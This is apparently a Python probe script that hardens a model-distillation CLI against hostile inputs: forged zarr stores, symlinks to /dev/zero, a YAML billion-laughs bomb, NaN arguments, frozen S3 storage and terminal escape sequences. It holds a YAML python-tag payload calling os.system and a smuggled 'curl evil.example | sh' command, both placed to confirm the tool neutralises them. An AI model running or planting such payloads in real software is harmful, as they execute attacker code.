"""The hostile-use probe: hostile but realistic uses of the CLI, each run as its own process under a time
and memory bound, each judged "held" or "broke".

Run by hand (not collected by pytest: the name does not start with ``test_``)::

    OMP_NUM_THREADS=1 OMP_WAIT_POLICY=PASSIVE .venv/bin/python tests/probe_hostile.py [--only ID,ID] [--json OUT]

A case holds when the command ends with the exit code the case expects, stderr holds no traceback
or native chatter and (on failure) ends in one ``error:`` line, it ran within its time bound and
under the memory limit, every file the user had is byte-identical afterwards, and the case's own
check passes. The cases marked ``issue`` reproduce breaks reported in review; the others are this
probe's own, in the same classes (ownership, unbounded input, unchecked values, object storage
failing, stored strings, resume changing data).
"""

from __future__ import annotations

import argparse
import json
import os
import re
import resource
import shlex
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from console_script import BIN, CHATTER

HERE = Path(__file__).resolve().parent
MEMORY_LIMIT = 6 << 30  # address space per case: a hostile case ends in MemoryError, not the machine's OOM
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")  # raw control characters (not \t \n) reaching the terminal
BUCKET = "dhkd"

TRAIN = "train-teacher --model resnet8 --data digits@100 --epochs 1 --batch-size 32 --out {out}"
ONLINE = (
    "distill --student resnet8 --teacher resnet8 --teacher-weights {teacher} --data digits@100 --epochs 1 "
    "--batch-size 32 --out {out}"
)
CACHE = (
    "cache-teacher --model resnet8 --weights {teacher} --data digits@100 --views 1 --chunk-rows 32 "
    "--batch-size 64 --out {store}"
)
DISTILL = "distill --student resnet8 --cache {store} --epochs 1 --batch-size 32 --out {out}"


# ---- object storage: moto behind a proxy that can die or freeze ------------------------------------


class Proxy:
    """A TCP proxy in front of the moto server: ``up`` forwards, ``down`` refuses (closes every
    connection at once, as a dead server), ``frozen`` accepts and never answers."""

    def __init__(self, target_port: int):
        self.target, self.mode = target_port, "up"
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.conns: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def set(self, mode: str):
        self.mode = mode
        if mode != "up":
            for c in list(self.conns):
                try:
                    c.shutdown(socket.SHUT_RDWR) if mode == "down" else None
                    c.close() if mode == "down" else None
                except OSError:
                    pass

    def _accept(self):
        while True:
            client, _ = self.sock.accept()
            if self.mode == "down":
                client.close()
                continue
            if self.mode == "frozen":
                self.conns.append(client)  # held open, never answered
                continue
            try:
                upstream = socket.create_connection(("127.0.0.1", self.target))
            except OSError:
                client.close()
                continue
            self.conns += [client, upstream]
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pipe, args=(a, b), daemon=True).start()

    def _pipe(self, a, b):
        try:
            while True:
                data = a.recv(65536)
                if not data or self.mode == "down":
                    break
                while self.mode == "frozen":
                    time.sleep(0.1)
                b.sendall(data)
        except OSError:
            pass
        for s in (a, b):
            try:
                s.close()
            except OSError:
                pass


def start_s3():
    import logging

    from moto.server import ThreadedMotoServer

    logging.getLogger("werkzeug").setLevel(logging.ERROR)
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    port = server.get_host_and_port()[1]
    proxy = Proxy(port)
    env = {
        "AWS_ENDPOINT_URL_S3": f"http://127.0.0.1:{proxy.port}",
        "AWS_ACCESS_KEY_ID": "probe",
        "AWS_SECRET_ACCESS_KEY": "probe",
        "AWS_DEFAULT_REGION": "us-east-1",
        "AWS_EC2_METADATA_DISABLED": "true",
    }
    import boto3

    client = boto3.client(
        "s3",
        endpoint_url=f"http://127.0.0.1:{port}",
        region_name="us-east-1",
        aws_access_key_id="probe",
        aws_secret_access_key="probe",
    )
    client.create_bucket(Bucket=BUCKET)
    return server, proxy, env, client


# ---- one case --------------------------------------------------------------------------------------


@dataclass
class W:
    """A case's work folder, the shared fixtures and what the case declares the user's."""

    tmp: Path
    shared: dict
    keep: list = field(default_factory=list)  # paths whose every file must be byte-identical afterwards
    env: dict = field(default_factory=dict)
    kept_from: dict = field(default_factory=dict)  # snapshots of paths a procedure declares the user's mid-way

    def keep_now(self, path):
        """Declares ``path`` the user's from now on (a procedure that builds its scene itself)."""
        self.keep.append(path)
        self.kept_from.update(snapshot([path]))

    @property
    def out(self) -> Path:
        return self.tmp / "run"

    @property
    def store(self) -> Path:
        return self.tmp / "logits.zarr"

    def vars(self) -> dict:
        return {
            "out": self.out,
            "store": self.store,
            "tmp": self.tmp,
            "teacher": self.shared["teacher"],
            "images": self.shared["images"],
            "run": self.out,
            "s3": f"s3://{BUCKET}/{self.tmp.name}",
        }


@dataclass
class Case:
    id: str
    cls: str  # ownership | unbounded | values | storage | strings | resume
    origin: str  # "issue" (a break the issue names) or "new" (this probe's own)
    args: str = ""
    code: tuple = (2,)
    match: str = ""  # a regex the last stderr line must match
    setup: Callable | None = None
    check: Callable | None = None  # (w, stdout, stderr) -> None, or a string saying what broke
    run: Callable | None = None  # a custom procedure (w) -> (code, stdout, stderr, seconds, maxrss_kb)
    bound: float = 60.0
    max_lines: int = 1  # stderr lines allowed (progress lines of long commands precede the error)
    s3: bool = False


def snapshot(paths) -> dict:
    out = {}
    for root in paths:
        root = Path(root)
        if not os.path.lexists(root):
            out[str(root)] = None
            continue
        if root.is_symlink() or not root.is_dir():
            out[str(root)] = _read(root)
            continue
        for p in sorted(root.rglob("*")):
            out[str(p)] = _read(p) if not p.is_dir() or p.is_symlink() else "dir"
    return out


def _read(p: Path):
    if p.is_symlink():
        return ("link", os.readlink(p))
    if p.is_fifo():
        return "fifo"
    return p.read_bytes()


def _limit():
    os.setsid()
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def child_env(extra: dict | None = None) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env.update(
        OMP_NUM_THREADS="1", OMP_WAIT_POLICY="PASSIVE", TRITON_INTERPRET="1", PYTHONUNBUFFERED="1", COLUMNS="200"
    )
    env.update(extra or {})
    return env


def start(args, env: dict | None = None) -> subprocess.Popen:
    argv = [BIN] + (shlex.split(args) if isinstance(args, str) else [str(a) for a in args])
    return subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=child_env(env), preexec_fn=_limit)


def finish(proc: subprocess.Popen, bound: float, began: float):
    """(code, stdout, stderr, seconds, max RSS in KiB); past ``bound`` the process group is killed
    (code "timeout")."""
    out, err = [], []
    threads = [
        threading.Thread(target=lambda s, acc: acc.append(s.read()), args=(s, acc), daemon=True)
        for s, acc in ((proc.stdout, out), (proc.stderr, err))
    ]
    for t in threads:
        t.start()
    code, rss = None, 0
    while True:
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            code, rss = os.waitstatus_to_exitcode(status), usage.ru_maxrss
            proc.returncode = code
            break
        if time.monotonic() - began > bound:
            for sig in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.killpg(proc.pid, sig)
                except ProcessLookupError:
                    pass
                time.sleep(3)
            _, status, usage = os.wait4(proc.pid, 0)
            proc.returncode = os.waitstatus_to_exitcode(status)
            code, rss = "timeout", usage.ru_maxrss
            break
        time.sleep(0.05)
    for t in threads:
        t.join(5)
    seconds = time.monotonic() - began
    dec = lambda b: (b[0] if b else b"").decode("utf-8", "replace")  # noqa: E731
    return code, dec(out), dec(err), seconds, rss


def run_cli(args: str, w: W, bound: float):
    began = time.monotonic()
    return finish(start(args.format(**w.vars()), w.env), bound, began)


def judge(case: Case, w: W, code, out: str, err: str, seconds: float, before: dict) -> str | None:
    """None if the case held, else what broke (one line)."""
    if code == "timeout":
        return f"no end within {case.bound:.0f} s (killed)"
    lines = [line for line in err.splitlines() if line.strip()]
    if CHATTER.search(err):
        first = next((line for line in lines if CHATTER.search(line)), "")
        return f"traceback or chatter on stderr ({len(lines)} lines): {first[:120]}"
    if code not in case.code:
        tail = lines[-1][:160] if lines else ""
        return f"exit {code}, expected {'/'.join(map(str, case.code))}: {tail}"
    if code != 0:
        if not lines or not re.match(r"^(error: |interrupted by )", lines[-1]):
            return f"no error line last on stderr: {lines[-1][:120] if lines else '(empty)'}"
        if len(lines) > case.max_lines:
            return f"{len(lines)} stderr lines (at most {case.max_lines})"
        if case.match and not re.search(case.match, lines[-1]):
            return f"error line {lines[-1][:160]!r} does not match {case.match!r}"
    if seconds > case.bound:
        return f"took {seconds:.0f} s (bound {case.bound:.0f} s)"
    before = {**before, **w.kept_from}
    after = snapshot(w.keep)
    changed = [k for k in set(before) | set(after) if before.get(k) != after.get(k)]
    if changed:
        return f"user files changed or removed: {', '.join(sorted(os.path.relpath(c, w.tmp) for c in changed)[:4])}"
    if case.check:
        problem = case.check(w, out, err)
        if problem:
            return problem
    return None


# ---- scene setters ---------------------------------------------------------------------------------


def copy_run(w: W, to: Path | None = None) -> Path:
    to = to or w.out
    shutil.copytree(w.shared["run"], to)
    return to


def copy_store(w: W, to: Path | None = None) -> Path:
    to = to or w.store
    shutil.copytree(w.shared["store"], to, symlinks=True)
    return to


def user_folder_with_metrics(w: W):
    w.out.mkdir()
    (w.out / "metrics.jsonl").write_text("time,value\n1,2\n")  # the user's own log, by name alone
    (w.out / "photo.jpg").write_bytes(b"\xff\xd8 the user's photo")
    (w.out / "notes.txt").write_text("my notes\n")
    w.keep.append(w.out)


def user_folder_with_lock_and_tool_named_folder(w: W):
    w.out.mkdir()
    (w.out / "run.lock").write_text("my lock file of another program\n")
    (w.out / "dhkd-pipe").mkdir()
    (w.out / "dhkd-pipe" / "paper-notes.md").write_text("notes on the paper\n")
    os.utime(w.out / "run.lock", (time.time() - 3600, time.time() - 3600))
    w.keep.append(w.out)


def finished_run_with_user_onnx(w: W):
    copy_run(w)
    (w.out / "model.onnx").write_bytes(b"the user's own onnx file, not written by the tool")
    w.keep.append(w.out / "model.onnx")


def finished_run_with_symlinked_checkpoint(w: W):
    copy_run(w)
    (w.tmp / "precious.bin").write_bytes(b"precious")
    os.remove(w.out / "checkpoint.pt")
    os.symlink(w.tmp / "precious.bin", w.out / "checkpoint.pt")
    w.keep.append(w.tmp / "precious.bin")


def run_holding_its_teacher(name: str):
    def setup(w: W):
        copy_run(w)
        w.keep.append(w.out)

    return setup


def keep_out(w: W):
    w.keep.append(w.out)


def store_with_user_notes(w: W):
    copy_store(w)
    (w.store / "notes.txt").write_text("my notes on this store\n")
    w.keep.append(w.store / "notes.txt")


def store_with_user_partial(w: W):
    copy_store(w)
    (w.store / "download.partial").write_bytes(b"half a download of the user's")
    w.keep.append(w.store / "download.partial")


def store_holding_the_weights(w: W):
    copy_store(w)
    shutil.copy(w.shared["teacher"], w.store / "teacher.pt")
    w.keep.append(w.store / "teacher.pt")


def zarr_json(store: Path, array: str = "") -> Path:
    return store / array / "zarr.json" if array else store / "zarr.json"


def edit_meta(store: Path, array: str, fn):
    path = zarr_json(store, array)
    meta = json.loads(path.read_text())
    fn(meta)
    path.write_text(json.dumps(meta))


def forged_shape(n: int = 10**9, arrays=("logits", "order", "views", "labels", "done")):
    """The store's metadata claims ``n`` samples (its objects hold 100): consistent, so only a
    check against the objects themselves finds the lie."""

    def setup(w: W):
        copy_store(w)
        for name in arrays:

            def fn(m, name=name):
                if name == "labels":
                    m["shape"] = [n]
                elif name == "done":
                    m["shape"] = [m["shape"][0], -(-n // 32)]
                else:
                    m["shape"][1] = n

            edit_meta(w.store, name, fn)
        w.keep.append(w.store)

    return setup


def forged_chunk_rows(value):
    def setup(w: W):
        copy_store(w)
        edit_meta(
            w.store,
            "logits",
            lambda m: m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [1, value, m["shape"][2]]),
        )
        w.keep.append(w.store)

    return setup


def forged_labels_short(w: W):
    copy_store(w)
    edit_meta(
        w.store,
        "labels",
        lambda m: (m.__setitem__("shape", [50]), m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [50])),
    )
    w.keep.append(w.store)


def first_chunk(store: Path) -> Path:
    return store / "logits" / "c" / "0" / "0" / "0"


def chunk_is_fifo(w: W):
    copy_store(w)
    os.remove(first_chunk(w.store))
    os.mkfifo(first_chunk(w.store))
    w.keep.append(w.store)


def chunk_links_to(target: str):
    def setup(w: W):
        copy_store(w)
        os.remove(first_chunk(w.store))
        os.symlink(target, first_chunk(w.store))
        w.keep.append(w.store)

    return setup


def chunk_links_outside(w: W):
    copy_store(w)
    outside = w.tmp / "outside.bin"
    shutil.copy(first_chunk(w.store), outside)  # a sound chunk, but not the store's
    os.remove(first_chunk(w.store))
    os.symlink(outside, first_chunk(w.store))
    w.keep += [w.store, outside]


def array_folder_links_outside(w: W):
    copy_store(w)
    elsewhere = w.tmp / "elsewhere"
    shutil.move(w.store / "order", elsewhere)
    os.symlink(elsewhere, w.store / "order")
    w.keep += [w.store, elsewhere]


def zarr_json_links_to_zero(w: W):
    copy_store(w)
    os.remove(zarr_json(w.store))
    os.symlink("/dev/zero", zarr_json(w.store))
    w.keep.append(w.store)


def lock_is_fifo(w: W):
    copy_store(w)
    os.mkfifo(w.store / ".lock")
    w.keep.append(w.store)


def nested_zarr_json(w: W):
    copy_store(w)
    path = zarr_json(w.store)
    text = path.read_text()
    depth = 200_000
    path.write_text(text[:-1] + ', "deep": ' + "[" * depth + "]" * depth + "}")
    w.keep.append(w.store)


def huge_zarr_json(w: W):
    copy_store(w)
    meta = json.loads(zarr_json(w.store).read_text())
    meta["attributes"]["padding"] = "x" * (100 << 20)  # a 100 MB metadata document
    zarr_json(w.store).write_text(json.dumps(meta))
    w.keep.append(w.store)


def forged_codec_attr(w: W):
    copy_store(w)
    edit_meta(w.store, "", lambda m: m["attributes"].__setitem__("codec", "int8"))
    w.keep.append(w.store)


def store_attr(key: str, value, damage: bool = False):
    def setup(w: W):
        copy_store(w)
        edit_meta(w.store, "", lambda m: m["attributes"].__setitem__(key, value))
        if damage:
            os.remove(first_chunk(w.store))
        w.keep.append(w.store)

    return setup


def store_dataset_kind(value: str):
    def setup(w: W):
        copy_store(w)
        edit_meta(w.store, "", lambda m: m["attributes"]["dataset"].__setitem__("kind", value))
        w.keep.append(w.store)

    return setup


def yaml_file(text: str | bytes, name: str = "recipe.yaml"):
    def setup(w: W):
        path = w.tmp / name
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        w.keep.append(path)

    return setup


BILLION_LAUGHS = (
    "lr_milestones:\n  - &a ["
    + ",".join(["x"] * 10)
    + "]\n"
    + "".join(f"  - &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(8))
)  # 10^9 leaves through aliases


def nan_weights(w: W):
    import torch

    sd = torch.load(w.shared["teacher"], weights_only=True)
    sd = sd.get("model", sd)
    sd = {k: v.clone() for k, v in sd.items()}
    sd["fc.weight"][:] = float("nan")
    torch.save({"model": sd}, w.tmp / "nan.pt")
    w.keep.append(w.tmp / "nan.pt")


def report_png_exists(w: W):
    copy_run(w)
    w.keep.append(w.out)


# ---- checks ----------------------------------------------------------------------------------------


def strict_json_stdout(w, out, err):
    if not out.strip():
        return None  # refused (one line on stderr): nothing printed to parse
    try:
        json.loads(out, parse_constant=lambda c: (_ for _ in ()).throw(ValueError(c)))
    except ValueError as e:
        return f"stdout is not strict JSON ({e})"
    return None


def no_raw_control(w, out, err):
    found = CONTROL.search(out + err)
    return f"a raw control character {found.group()!r} reached the terminal" if found else None


def hint_quoted(w, out, err):
    problem = no_raw_control(w, out, err)
    if problem:
        return problem
    line = err.strip().splitlines()[-1] if err.strip() else ""
    hint = line.split("rewrite it: ", 1)[-1] if "rewrite it: " in line else ""
    if not hint:
        return None
    lexer = shlex.shlex(hint, posix=False, punctuation_chars=True)  # quotes kept: a quoted "|" is an argument
    try:
        tokens = list(lexer)
    except ValueError as e:
        return f"the suggested command does not parse ({e})"
    operators = [t for t in tokens if t and set(t) <= set("();<>|&")]
    if operators:
        return f"the suggested command holds shell operators unquoted: {operators[:3]}"
    if tokens[:2] != ["dhkd-pipe", "cache-teacher"]:
        return f"the suggested command does not start with dhkd-pipe cache-teacher: {tokens[:3]}"
    return None


# ---- custom procedures -----------------------------------------------------------------------------


def sigterm_during_export(w: W):
    copy_run(w)
    r = finish(start(["export", w.out], w.env), 300, time.monotonic())  # the previous model.onnx, the tool's own
    assert r[0] == 0, r[2]
    w.keep_now(w.out)
    began = time.monotonic()
    proc = start(["export", w.out], w.env)
    # signalled when it has used half of a whole export's CPU time: inside the export, whatever the load
    while cpu_seconds(proc.pid) < 0.5 * w.shared["export_seconds"] and time.monotonic() - began < 120:
        time.sleep(0.05)
    os.kill(proc.pid, signal.SIGTERM)  # not proc.send_signal: its poll() would reap the child finish() waits for
    return finish(proc, 60, began)


def cpu_seconds(pid: int) -> float:
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return float("inf")
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def s3_dies_mid_distill(w: W):
    proxy, store = w.shared["proxy"], w.shared["s3_store"]
    args = [
        "distill",
        "--student",
        "resnet8",
        "--cache",
        store,
        "--epochs",
        "6",
        "--batch-size",
        "16",
        "--checkpoint-every",
        "2",
        "--out",
        w.out,
    ]
    began = time.monotonic()
    proc = start(args, w.env)
    deadline = time.monotonic() + 90
    while not (w.out / "checkpoint.pt").exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    proxy.set("down")
    try:
        code, out, err, seconds, rss = finish(proc, 120, began)
    finally:
        proxy.set("up")
    if code == 2:  # the storage is back: --resume continues
        r = finish(start(args + ["--resume"], w.env), 120, time.monotonic())
        if r[0] != 0:
            err += (
                f"\nerror: the resume after the storage came back failed: exit {r[0]}: {r[2].strip().splitlines()[-1:]}"
            )
    return code, out, err, seconds, rss


def s3_frozen(args_fn):
    def run(w: W):
        proxy = w.shared["proxy"]
        proxy.set("frozen")
        try:
            began = time.monotonic()
            return finish(start(args_fn(w), w.env), 100, began)
        finally:
            proxy.set("up")

    return run


def resume_after_store_replaced(w: W):
    store = copy_store(w)
    args = DISTILL.format(**w.vars()) + " --epochs 2 --max-steps 3"
    r = finish(start(args, w.env), 120, time.monotonic())
    if r[0] != 0:
        return r
    shutil.rmtree(store)
    shutil.copytree(w.shared["store_seed1"], store)  # another store (seed 1) at the same path
    w.keep_now(store)
    return finish(start(DISTILL.format(**w.vars()) + " --epochs 2 --resume", w.env), 120, time.monotonic())


# ---- the cases -------------------------------------------------------------------------------------

IMG_RES = "train-teacher --model resnet18 --data imagefolder:{images} --workers 0 --epochs 1 --batch-size 2 --out {out}"

CASES = [
    # ownership: remove only what the tool wrote
    Case(
        "folder-with-users-metrics-taken-for-a-run",
        "ownership",
        "issue",
        TRAIN,
        match="holds no run|not a run",
        setup=user_folder_with_metrics,
    ),
    Case(
        "folder-with-users-metrics-overwrite",
        "ownership",
        "new",
        TRAIN + " --overwrite",
        match="not a run|holds no run",
        setup=user_folder_with_metrics,
    ),
    Case(
        "store-overwrite-keeps-users-notes",
        "ownership",
        "issue",
        CACHE + " --seed 3 --overwrite",
        code=(0, 2),
        max_lines=8,
        setup=store_with_user_notes,
    ),
    Case("store-at-bucket-root-over-foreign-objects", "ownership", "issue", run=None, s3=True),  # filled below
    Case("store-at-empty-bucket-root", "ownership", "new", run=None, s3=True),  # filled below
    Case(
        "distill-overwrite-deletes-its-teacher",
        "ownership",
        "issue",
        ONLINE.replace("{teacher}", "{out}/model.pt") + " --overwrite",
        match="inside|--out",
        setup=run_holding_its_teacher("model.pt"),
    ),
    Case(
        "distill-overwrite-deletes-its-safetensors-teacher",
        "ownership",
        "new",
        ONLINE.replace("{teacher}", "{out}/model.safetensors") + " --overwrite",
        match="inside|--out",
        setup=run_holding_its_teacher(""),
    ),
    Case(
        "cache-overwrite-deletes-its-weights",
        "ownership",
        "new",
        CACHE.replace("{teacher}", "{store}/teacher.pt") + " --seed 5 --overwrite",
        code=(0, 2),
        match="inside|--out",
        max_lines=8,
        setup=store_holding_the_weights,
    ),
    Case(
        "export-over-the-runs-checkpoint",
        "ownership",
        "issue",
        "export {out} --out {out}/checkpoint.pt",
        match="run's own|its own",
        setup=lambda w: (copy_run(w), keep_out(w)),
    ),
    Case(
        "export-over-the-runs-metrics",
        "ownership",
        "new",
        "export {out} --out {out}/metrics.jsonl",
        match="run's own|its own",
        setup=lambda w: (copy_run(w), keep_out(w)),
    ),
    Case(
        "report-over-the-runs-summary",
        "ownership",
        "new",
        "report {out} --out {out}/summary.json",
        match="own|format",
        setup=lambda w: (copy_run(w), keep_out(w)),
    ),
    Case(
        "report-out-a-folder",
        "ownership",
        "new",
        "report {out} --out {tmp}",
        match="folder",
        setup=lambda w: (copy_run(w), keep_out(w)),
    ),
    Case(
        "report-format-it-cannot-write",
        "ownership",
        "new",
        "report {out} --out {tmp}/r.txt",
        match="format|png",
        setup=lambda w: (copy_run(w), keep_out(w)),
    ),
    Case(
        "sigterm-during-export-keeps-previous-onnx",
        "ownership",
        "issue",
        code=(143,),
        match="SIGTERM",
        run=sigterm_during_export,
    ),
    Case(
        "overwrite-keeps-users-onnx-in-a-run",
        "ownership",
        "new",
        TRAIN + " --overwrite",
        code=(0,),
        setup=finished_run_with_user_onnx,
    ),
    Case(
        "folder-with-foreign-lock-and-tool-named-folder",
        "ownership",
        "new",
        TRAIN,
        match="not a run|holds no run",
        setup=user_folder_with_lock_and_tool_named_folder,
    ),
    Case(
        "overwrite-through-a-symlinked-checkpoint",
        "ownership",
        "new",
        TRAIN + " --overwrite",
        code=(0, 2),
        setup=finished_run_with_symlinked_checkpoint,
    ),
    Case("resume-store-keeps-users-partial-file", "ownership", "new", CACHE, code=(0,), setup=store_with_user_partial),
    # unbounded on hostile input
    Case("forged-shape-distill", "unbounded", "issue", DISTILL, match="store", setup=forged_shape()),
    Case("forged-shape-inspect", "unbounded", "issue", "inspect {store}", match="store", setup=forged_shape()),
    Case(
        "forged-done-shape-inspect",
        "unbounded",
        "new",
        "inspect {store}",
        match="store",
        setup=forged_shape(n=10**12, arrays=("done",)),
    ),
    Case("forged-chunk-rows-zero", "unbounded", "new", "inspect {store}", match="store", setup=forged_chunk_rows(0)),
    Case("forged-labels-shorter-than-logits", "unbounded", "new", DISTILL, match="store", setup=forged_labels_short),
    Case(
        "forged-codec-attribute",
        "unbounded",
        "new",
        "inspect {store}",
        match="store|not a complete",
        setup=forged_codec_attr,
    ),
    Case(
        "chunk-is-a-fifo-distill", "unbounded", "issue", DISTILL, match="store|special|fifo|FIFO", setup=chunk_is_fifo
    ),
    Case(
        "chunk-is-a-fifo-inspect",
        "unbounded",
        "new",
        "inspect {store}",
        match="store|special|fifo|FIFO",
        setup=chunk_is_fifo,
    ),
    Case(
        "chunk-links-to-dev-zero",
        "unbounded",
        "issue",
        "inspect {store}",
        match="store",
        setup=chunk_links_to("/dev/zero"),
    ),
    Case(
        "chunk-links-outside-the-store",
        "unbounded",
        "new",
        "inspect {store}",
        match="store|link",
        setup=chunk_links_outside,
    ),
    Case(
        "array-folder-links-outside-the-store",
        "unbounded",
        "new",
        DISTILL,
        match="store|link",
        setup=array_folder_links_outside,
    ),
    Case(
        "zarr-json-links-to-dev-zero",
        "unbounded",
        "new",
        "inspect {store}",
        match="store",
        setup=zarr_json_links_to_zero,
    ),
    Case("store-lock-is-a-fifo", "unbounded", "new", "inspect {store}", code=(0, 2), setup=lock_is_fifo),
    Case("deeply-nested-zarr-json", "unbounded", "issue", "inspect {store}", match="store", setup=nested_zarr_json),
    Case("huge-zarr-json", "unbounded", "new", "inspect {store}", match="store|large", setup=huge_zarr_json),
    Case(
        "yaml-billion-laughs",
        "unbounded",
        "issue",
        TRAIN + " --config {tmp}/recipe.yaml",
        match="config",
        setup=yaml_file(BILLION_LAUGHS),
    ),
    Case("absurd-resolution", "unbounded", "issue", IMG_RES + " --resolution 100000", match="--resolution"),
    Case(
        "absurd-batch-size-cached",
        "unbounded",
        "new",
        DISTILL + " --batch-size 1000000000000",
        code=(0, 2),
        setup=copy_store,
    ),
    # values checked where they enter
    Case(
        "eval-nan-weights-json",
        "values",
        "issue",
        "eval --model resnet8 --weights {tmp}/nan.pt --data digits",
        code=(0, 2),
        setup=nan_weights,
        check=strict_json_stdout,
    ),
    Case(
        "verify-cache-zero-samples",
        "values",
        "issue",
        "verify-cache {store} --samples 0",
        match="--samples",
        setup=copy_store,
    ),
    Case(
        "verify-cache-nan-tolerance",
        "values",
        "issue",
        "verify-cache {store} --tolerance nan",
        match="--tolerance",
        setup=copy_store,
    ),
    Case(
        "export-unsupported-opset",
        "values",
        "issue",
        "export {out} --opset 999",
        match="--opset|opset",
        setup=lambda w: (copy_run(w), keep_out(w)),
    ),
    Case("seed-negative", "values", "new", TRAIN + " --seed -1", match="seed"),
    Case("seed-beyond-64-bits", "values", "new", TRAIN + " --seed 99999999999999999999999", match="seed"),
    Case("lr-nan", "values", "new", TRAIN + " --lr nan", match="lr"),
    Case(
        "lr-inf-from-yaml",
        "values",
        "new",
        TRAIN + " --config {tmp}/recipe.yaml",
        match="lr",
        setup=yaml_file("lr: .inf\n"),
    ),
    Case("momentum-negative", "values", "new", TRAIN + " --momentum -1", match="momentum"),
    Case("weight-decay-nan", "values", "new", TRAIN + " --weight-decay nan", match="weight.decay"),
    Case("lr-decay-negative", "values", "new", TRAIN + " --lr-decay -1", match="lr.decay"),
    Case("lr-milestones-negative", "values", "new", TRAIN + " --lr-milestones 0,-5", match="milestones"),
    Case(
        "eval-batch-size-zero",
        "values",
        "new",
        "eval --model resnet8 --weights {teacher} --data digits --batch-size 0",
        match="batch.size",
    ),
    Case("alpha-inf", "values", "new", ONLINE + " --method kd --alpha inf", match="alpha"),
    Case(
        "config-not-utf8",
        "values",
        "new",
        TRAIN + " --config {tmp}/recipe.yaml",
        match="UTF-8|utf-8|encoding",
        setup=yaml_file("# r\xe9glages\nepochs: 1\n".encode("latin-1")),
    ),
    Case(
        "config-python-tag",
        "values",
        "new",
        TRAIN + " --config {tmp}/recipe.yaml",
        match="config",
        setup=yaml_file("epochs: !!python/object/apply:os.system ['touch /tmp/probe19-pwned']\n"),
        check=lambda w, o, e: "the payload ran" if os.path.exists("/tmp/probe19-pwned") else None,
    ),
    # object storage failing
    Case(
        "s3-dies-mid-distill", "storage", "issue", code=(2,), max_lines=3, run=s3_dies_mid_distill, s3=True, bound=180
    ),
    Case(
        "s3-frozen-inspect",
        "storage",
        "issue",
        code=(2,),
        run=s3_frozen(lambda w: ["inspect", w.shared["s3_store"]]),
        s3=True,
    ),
    Case(
        "s3-frozen-cache-teacher",
        "storage",
        "new",
        code=(2,),
        max_lines=4,
        s3=True,
        run=s3_frozen(lambda w: shlex.split(CACHE.format(**{**w.vars(), "store": w.vars()["s3"]}))),
    ),
    # stored strings shown safely
    Case(
        "inspect-escapes-control-characters",
        "strings",
        "issue",
        "inspect {store}",
        code=(1,),
        check=no_raw_control,
        setup=store_attr(
            "command_line", "dhkd-pipe cache-teacher --model resnet8 \x1b[2J\x1b]0;owned\x07\r", damage=True
        ),
    ),
    Case(
        "repair-hint-quoted",
        "strings",
        "issue",
        "inspect {store}",
        code=(1,),
        check=hint_quoted,
        setup=store_attr(
            "command_line", "dhkd-pipe cache-teacher --model resnet8; curl evil.example | sh", damage=True
        ),
    ),
    Case(
        "inspect-tool-version-escape",
        "strings",
        "new",
        "inspect {store}",
        code=(0,),
        check=no_raw_control,
        setup=store_attr("tool_version", "1.0\x1b[31m"),
    ),
    Case(
        "mismatch-message-escapes-dataset-kind",
        "strings",
        "new",
        DISTILL + " --data digits@100",
        check=no_raw_control,
        setup=store_dataset_kind("digits\x1b]0;owned\x07"),
    ),
    # resume must not change its data
    Case("resume-after-store-replaced", "resume", "issue", match="store", run=resume_after_store_replaced),
]


def _s3_root_cases():
    def foreign(w: W):
        """A logit store at the bucket's root (as an older version made it) beside the user's photos."""
        client = w.shared["s3_client"]
        client.create_bucket(Bucket="photos")
        for p in Path(w.shared["store"]).rglob("*"):
            if p.is_file() and p.name != ".lock":
                client.put_object(Bucket="photos", Key=str(p.relative_to(w.shared["store"])), Body=p.read_bytes())
        client.put_object(Bucket="photos", Key="holiday/cat.jpg", Body=b"a cat")

        def cat_kept():
            try:
                return client.get_object(Bucket="photos", Key="holiday/cat.jpg")["Body"].read() == b"a cat"
            except Exception:  # NoSuchKey: removed
                return False

        w.s3_check = cat_kept

    def empty(w: W):
        w.shared["s3_client"].create_bucket(Bucket="empty-bucket")

    def run_for(bucket: str, extra: str):
        def run(w: W):
            args = shlex.split(CACHE.format(**{**w.vars(), "store": f"s3://{bucket}"}) + extra)
            r = finish(start(args, w.env), 120, time.monotonic())
            if getattr(w, "s3_check", None) and not w.s3_check():
                return r[0], r[1], r[2] + "\nerror: the bucket's foreign object was removed", r[3], r[4]
            return r

        return run

    for case in CASES:
        if case.id == "store-at-bucket-root-over-foreign-objects":
            case.setup, case.run, case.match, case.max_lines = (
                foreign,
                run_for("photos", " --seed 3 --overwrite"),
                "bucket",
                4,
            )
        elif case.id == "store-at-empty-bucket-root":
            case.setup, case.run, case.match, case.max_lines = empty, run_for("empty-bucket", ""), "bucket", 4


_s3_root_cases()


# ---- shared fixtures -------------------------------------------------------------------------------


def build_shared(root: Path, need_s3: bool, need_onnx: bool) -> dict:
    shared: dict = {"root": root}
    run = root / "teacher"
    if not run.exists():
        r = finish(start(TRAIN.format(out=run)), 300, time.monotonic())
        assert r[0] == 0, r[2]
    shared["run"], shared["teacher"] = run, run / "model.pt"
    images = root / "images"
    if not images.exists():
        _write_images(images)
    shared["images"] = images
    for seed, name in ((0, "store"), (1, "store_seed1")):
